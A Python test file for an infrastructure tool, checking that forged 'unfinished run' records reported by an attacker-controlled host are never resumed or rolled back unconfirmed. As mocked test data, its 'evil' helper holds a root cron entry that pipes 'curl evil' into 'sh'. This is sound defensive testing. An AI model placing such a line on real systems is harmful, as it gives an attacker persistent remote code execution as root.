"""Root on one host says what a Run is: that word is not carried out anywhere, and least of all unasked."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from selextract_infra.cli import build
from selextract_infra.errors import DriftError, RefusedError, SelextractError, UsageError
from selextract_infra.flow import executor
from selextract_infra.flow.context import Context
from selextract_infra.flow.run_plan import ForeignRunError
from selextract_infra.flow.unfinished import resume, roll_back
from selextract_infra.hosts.identity import watcher
from selextract_infra.hosts.step_results import Execution
from selextract_infra.model.observation import HostObservation, Observation
from selextract_infra.model.plan import Plan
from selextract_infra.model.run import StepResult, StepStatus
from selextract_infra.operations.watch.unfinished import OwnRuns
from selextract_infra.plan import rightsize
from tests.unit.flow.test_taking_up import record_begun
from tests.unit.seen import AT, MB, ROLES, one

RUN = "run-a"


class Fleet:
    """Two hosts, of which ``app1`` is the attacker's: what the hosts hold, and what was done on them."""

    def __init__(self, context: Context, monkeypatch: pytest.MonkeyPatch) -> None:
        self.context = context
        self.done: list[tuple[str, str, tuple[str, ...]]] = []
        self.undone: list[tuple[str, ...]] = []
        self.seen = Observation(at=AT, hosts=(HostObservation(name="app1"), HostObservation(name="app2")))
        self.plan: Plan = rightsize(one("api", peak=600 * MB), context.policy)
        monkeypatch.setattr(context, "observe", lambda: self.seen)
        monkeypatch.setattr(executor, "execute", self._execute)
        monkeypatch.setattr(executor, "execute_segment", self._execute_segment)
        monkeypatch.setattr(executor, "put_back", self._put_back)
        monkeypatch.setattr(executor, "stop_at_safe_point", lambda *_, **__: {})

    def hold(self, plans: dict[str, dict[str, Any] | None], **record: Any) -> None:
        """Each of these hosts says that a Run with that Plan is unfinished on it."""
        about = {"run_id": RUN, "owner": "root@control (process 7)", "started_at": AT.isoformat(), "steps": {}}
        states = {
            name: {"unfinished": [{**about, "plan": plans[name], **record}]} if name in plans else {}
            for name in ("app1", "app2")
        }
        self.seen = Observation(at=AT, hosts=tuple(HostObservation(name=name, state=s) for name, s in states.items()))

    def forged(self, **update: Any) -> dict[str, Any]:
        return {**self.plan.model_dump(mode="json"), "made_by": watcher(), **update}

    def evil(self, *hosts: str) -> dict[str, Any]:
        """A Plan that would run any playbook with any values on these hosts."""
        step = self.plan.steps[0].model_dump(mode="json")
        values = {host: {"content": "* * * * * root curl evil | sh"} for host in hosts}
        steps = [{**step, "playbook": "/tmp/evil.yml", "hosts": list(hosts), "values": values}]
        return self.forged(hosts=list(hosts), steps=steps)

    def _execute(self, _hands: Any, _run: Any, _plan: Any, step: Any, hosts: tuple[str, ...], **_: Any) -> Execution:
        self.done.append((step.id, step.playbook, hosts))
        return Execution(tuple(StepResult(step=step.id, host=host, status=StepStatus.VERIFIED) for host in hosts))

    def _execute_segment(self, access: Any, run: Any, plan: Any, segment: Any) -> Execution:
        done = [self._execute(access, run, plan, step, segment.hosts).results for step in segment.steps]
        return Execution(tuple(result for results in done for result in results))

    def _put_back(self, _hands: Any, _run: Any, hosts: tuple[str, ...], *_: Any, **__: Any) -> Execution:
        self.undone.append(hosts)
        return Execution(tuple(StepResult(step="rollback", host=h, status=StepStatus.ROLLED_BACK) for h in hosts))


@pytest.fixture
def fleet(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Fleet]:
    inventory = tmp_path / "hosts.json"
    hosts = {name: {"ansible_host": "192.0.2.7"} for name in ("app1", "app2")}
    services = {name: {"role": role} for name, role in ROLES.items()}
    application = {"project": "selextract", "directory": "/opt/selextract", "services": services}
    variables = {"selextract_policy": {"application": application}}
    inventory.write_text(json.dumps({"all": {"hosts": hosts, "vars": variables}}))
    with Context(inventory, state=tmp_path / "state") as context:
        yield Fleet(context, monkeypatch)


def test_a_forged_record_runs_nothing_on_another_host_even_where_a_person_says_yes(fleet: Fleet) -> None:
    evil = fleet.evil("app2")
    fleet.hold({"app1": evil})
    for approved in ("", Plan.model_validate(evil).digest):
        with pytest.raises(RefusedError, match=r"App1 says that run run-a is about app2 too, which does not"):
            resume(fleet.context, RUN, approved=approved)
    assert fleet.done == []


def test_a_forged_record_runs_no_work_of_its_own_on_its_own_host_either(fleet: Fleet) -> None:
    evil = fleet.evil("app1")
    fleet.hold({"app1": evil})
    with pytest.raises(SelextractError):
        resume(fleet.context, RUN, approved=Plan.model_validate(evil).digest)
    assert fleet.done == []


def test_two_hosts_that_hold_different_plans_are_believed_neither(fleet: Fleet) -> None:
    fleet.hold({"app1": fleet.forged(hosts=["app1", "app2"]), "app2": fleet.forged()})
    for take_up in (resume, roll_back):
        with pytest.raises(RefusedError, match="hold different plans"):
            take_up(fleet.context, RUN, approved=fleet.plan.digest)
    assert (fleet.done, fleet.undone) == ([], [])


def test_the_loop_never_takes_up_what_a_host_says_the_loop_began(fleet: Fleet) -> None:
    news: list[str] = []
    for plan in (fleet.forged(), fleet.evil("app2"), fleet.evil("app1", "app2")):
        fleet.hold({"app1": plan})
        assert not OwnRuns(fleet.context, lambda _, text: news.append(text)).end(fleet.seen)
    assert (fleet.done, fleet.undone, news) == ([], [], [])


def test_the_loop_finishes_its_own_run_by_its_own_plan_whatever_the_host_holds(fleet: Fleet) -> None:
    record_begun(fleet.context, fleet.plan.model_copy(update={"made_by": watcher()}))
    fleet.hold({"app1": fleet.evil("app1", "app2")})
    OwnRuns(fleet.context, lambda *_: None).end(fleet.seen)
    assert [step for step, *_ in fleet.done] == [step.id for step in fleet.plan.steps]
    assert {playbook for _, playbook, _ in fleet.done} == {step.playbook for step in fleet.plan.steps}
    assert {hosts for *_, hosts in fleet.done} == {("app1",)}


def test_only_a_person_who_looked_at_it_confirms_a_run_that_hosts_alone_tell_of(fleet: Fleet) -> None:
    fleet.hold({"app1": fleet.forged()})
    with pytest.raises(ForeignRunError, match="the word of app1 alone") as unconfirmed:
        resume(fleet.context, RUN)
    assert fleet.plan.digest in str(unconfirmed.value.remedy)
    with pytest.raises(DriftError):
        resume(fleet.context, RUN, approved="sha256:" + 64 * "0")
    assert fleet.done == []
    assert resume(fleet.context, RUN, approved=unconfirmed.value.plan.digest).exit_code == 0
    assert unconfirmed.value.plan.made_by != watcher(), "the loop never takes it for its own later"


def test_a_host_is_believed_about_its_own_steps_alone(fleet: Fleet) -> None:
    fleet.plan = rightsize(one("api", peak=600 * MB), fleet.context.policy, settle=True)
    steps = {step.id: {"status": "verified"} for step in fleet.plan.steps} | {"made up": {"status": "verified"}}
    record_begun(fleet.context, fleet.plan)
    fleet.hold({"app2": None}, steps=steps)
    run = resume(fleet.context, RUN, now_reason="a test")
    assert [step for step, *_ in fleet.done] == [step.id for step in fleet.plan.steps]
    assert {result.host for result in run.results} == {"app1"}


def test_a_rollback_reaches_only_hosts_that_hold_the_run_themselves(fleet: Fleet) -> None:
    steps = [{**step.model_dump(mode="json"), "hosts": ["app1", "app2"]} for step in fleet.plan.steps]
    fleet.hold({"app1": fleet.forged(hosts=["app1", "app2"], steps=steps)})
    with pytest.raises(ForeignRunError) as unconfirmed:
        roll_back(fleet.context, RUN)
    assert fleet.undone == []
    roll_back(fleet.context, RUN, approved=unconfirmed.value.plan.digest)
    assert fleet.undone == [("app1",)]


def test_a_name_that_a_host_puts_beside_a_real_run_hides_it_from_nobody(fleet: Fleet) -> None:
    record_begun(fleet.context, fleet.plan)
    fleet.hold({"app1": fleet.forged()})
    (host, *others) = fleet.seen.hosts
    (record,) = host.state["unfinished"]
    more = host.model_copy(update={"state": {"unfinished": [record, {**record, "run_id": RUN + "-b"}]}})
    fleet.seen = fleet.seen.model_copy(update={"hosts": (more, *others)})
    assert resume(fleet.context, RUN).id == RUN
    with pytest.raises(UsageError, match="No host holds an unfinished run run"):
        roll_back(fleet.context, "run")


@pytest.mark.parametrize("command", ["resume", "rollback"])
def test_yes_alone_confirms_no_word_of_a_host(fleet: Fleet, monkeypatch: pytest.MonkeyPatch, command: str) -> None:
    fleet.hold({"app1": fleet.forged()})
    monkeypatch.setattr(Context, "observe", lambda _: fleet.seen)
    where = ["-i", str(fleet.context.inventory.path), "--state", str(fleet.context.journal.folder)]
    assert CliRunner().invoke(build(command), [command, RUN, "--yes", *where]).exit_code == 2
    answer = CliRunner().invoke(build(command), [command, RUN, *where])
    assert isinstance(answer.exception, ForeignRunError)
    assert "Plan: rightsize on app1" in answer.output, "it is shown"
    assert (fleet.done, fleet.undone) == ([], [])
